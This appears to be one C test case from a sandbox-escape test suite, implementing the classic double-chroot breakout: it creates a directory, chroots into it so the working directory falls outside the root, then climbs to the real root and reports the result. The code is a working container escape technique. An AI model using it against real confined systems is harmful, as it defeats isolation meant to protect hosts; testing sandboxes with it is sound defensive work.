/* The classical way out of a chroot. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "escape.h"

/* The root moves below the working directory, which then is outside of it. */
ATTACK(second_chroot)
{
        syscall(SYS_mkdirat, AT_FDCWD, WRITABLE "/below", 0755);
        report("chroot", syscall(SYS_chroot, WRITABLE "/below"));
        climb(attempt);
}
